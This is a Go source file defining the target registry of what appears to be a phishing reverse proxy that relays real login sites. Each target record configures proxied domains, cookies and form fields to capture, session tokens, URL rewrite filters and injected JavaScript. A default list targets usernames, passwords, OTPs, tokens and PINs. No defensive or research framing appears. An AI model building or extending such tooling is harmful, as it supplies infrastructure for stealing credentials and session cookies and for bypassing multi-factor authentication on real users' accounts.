package core

import (
	"errors"
	"fmt"
	"net/url"
	"sort"
	"strings"
	"sync"

	"github.com/google/uuid"
)

var (
	ErrTargetNotFound    = errors.New("target not found")
	ErrDuplicateTargetId = errors.New("target id already registered")
	ErrTargetActive      = errors.New("target is active")
)

// DEFAULT_CAPTURE_FIELDS is used when a registration does not name its own
// credential field patterns.
var DEFAULT_CAPTURE_FIELDS = []string{"user", "login", "email", "pass", "pwd", "otp", "token", "pin"}

type SubFilter struct {
	Search  string `mapstructure:"search" json:"search" yaml:"search"`
	Replace string `mapstructure:"replace" json:"replace" yaml:"replace"`
}

type Target struct {
	Id             string      `mapstructure:"id" json:"id" yaml:"id"`
	Name           string      `mapstructure:"name" json:"name" yaml:"name"`
	TargetHost     string      `mapstructure:"target_host" json:"target_host" yaml:"target_host"`
	TargetScheme   string      `mapstructure:"target_scheme" json:"target_scheme" yaml:"target_scheme"`
	ProxyDomains   []string    `mapstructure:"proxy_domains" json:"proxy_domains" yaml:"proxy_domains"`
	CaptureCookies []string    `mapstructure:"capture_cookies" json:"capture_cookies" yaml:"capture_cookies"`
	CaptureFields  []string    `mapstructure:"capture_fields" json:"capture_fields" yaml:"capture_fields"`
	AuthTokens     []string    `mapstructure:"auth_tokens" json:"auth_tokens" yaml:"auth_tokens"`
	AuthUrls       []string    `mapstructure:"auth_urls" json:"auth_urls" yaml:"auth_urls"`
	SubFilters     []SubFilter `mapstructure:"sub_filters" json:"sub_filters" yaml:"sub_filters"`
	JsInject       string      `mapstructure:"js_inject" json:"js_inject" yaml:"js_inject"`
	IsActive       bool        `mapstructure:"is_active" json:"is_active" yaml:"is_active"`
	ListenPort     int         `mapstructure:"listen_port" json:"listen_port" yaml:"listen_port"`
}

// NewTarget validates a registration and fills in defaults. An empty id gets
// a generated one.
func NewTarget(t *Target) (*Target, error) {
	if t.TargetHost == "" {
		return nil, fmt.Errorf("target_host is required")
	}
	if strings.Contains(t.TargetHost, "/") {
		u, err := url.Parse(t.TargetHost)
		if err != nil || u.Host == "" {
			return nil, fmt.Errorf("invalid target_host: %s", t.TargetHost)
		}
		if u.Scheme != "" && t.TargetScheme == "" {
			t.TargetScheme = u.Scheme
		}
		t.TargetHost = u.Host
	}
	if t.TargetScheme == "" {
		t.TargetScheme = "https"
	}
	if t.TargetScheme != "http" && t.TargetScheme != "https" {
		return nil, fmt.Errorf("invalid target_scheme: %s", t.TargetScheme)
	}
	if t.Id == "" {
		t.Id = strings.Split(uuid.New().String(), "-")[0]
	}
	if !isValidTargetId(t.Id) {
		return nil, fmt.Errorf("invalid target id: %s", t.Id)
	}
	if t.Name == "" {
		t.Name = t.TargetHost
	}
	if len(t.CaptureFields) == 0 {
		t.CaptureFields = append([]string{}, DEFAULT_CAPTURE_FIELDS...)
	}
	t.IsActive = false
	return t, nil
}

// isValidTargetId keeps ids usable as the first path segment of a relay URL.
func isValidTargetId(id string) bool {
	if id == "" || strings.HasPrefix(id, "_") {
		return false
	}
	for _, c := range id {
		if !(c >= 'a' && c <= 'z') && !(c >= 'A' && c <= 'Z') && !(c >= '0' && c <= '9') && c != '-' && c != '_' {
			return false
		}
	}
	return true
}

func (t *Target) BaseURL() string {
	return t.TargetScheme + "://" + t.TargetHost
}

type TargetRegistry struct {
	targets map[string]*Target
	mtx     sync.RWMutex
}

func NewTargetRegistry() *TargetRegistry {
	return &TargetRegistry{
		targets: make(map[string]*Target),
	}
}

func (r *TargetRegistry) Register(t *Target) error {
	r.mtx.Lock()
	defer r.mtx.Unlock()
	if _, ok := r.targets[t.Id]; ok {
		return fmt.Errorf("%w: %s", ErrDuplicateTargetId, t.Id)
	}
	r.targets[t.Id] = t
	return nil
}

func (r *TargetRegistry) Lookup(id string) (*Target, error) {
	r.mtx.RLock()
	defer r.mtx.RUnlock()
	t, ok := r.targets[id]
	if !ok {
		return nil, fmt.Errorf("%w: %s", ErrTargetNotFound, id)
	}
	return t, nil
}

func (r *TargetRegistry) Remove(id string) error {
	r.mtx.Lock()
	defer r.mtx.Unlock()
	t, ok := r.targets[id]
	if !ok {
		return fmt.Errorf("%w: %s", ErrTargetNotFound, id)
	}
	if t.IsActive {
		return fmt.Errorf("%w: %s", ErrTargetActive, id)
	}
	delete(r.targets, id)
	return nil
}

func (r *TargetRegistry) Activate(id string, port int) (*Target, error) {
	r.mtx.Lock()
	defer r.mtx.Unlock()
	t, ok := r.targets[id]
	if !ok {
		return nil, fmt.Errorf("%w: %s", ErrTargetNotFound, id)
	}
	t.IsActive = true
	if port > 0 {
		t.ListenPort = port
	}
	return t, nil
}

func (r *TargetRegistry) Deactivate(id string) (*Target, error) {
	r.mtx.Lock()
	defer r.mtx.Unlock()
	t, ok := r.targets[id]
	if !ok {
		return nil, fmt.Errorf("%w: %s", ErrTargetNotFound, id)
	}
	t.IsActive = false
	return t, nil
}

func (r *TargetRegistry) List() []*Target {
	r.mtx.RLock()
	defer r.mtx.RUnlock()
	var ret []*Target
	for _, t := range r.targets {
		ret = append(ret, t)
	}
	sort.Slice(ret, func(i, j int) bool { return ret[i].Id < ret[j].Id })
	return ret
}

func (r *TargetRegistry) Count() int {
	r.mtx.RLock()
	defer r.mtx.RUnlock()
	return len(r.targets)
}
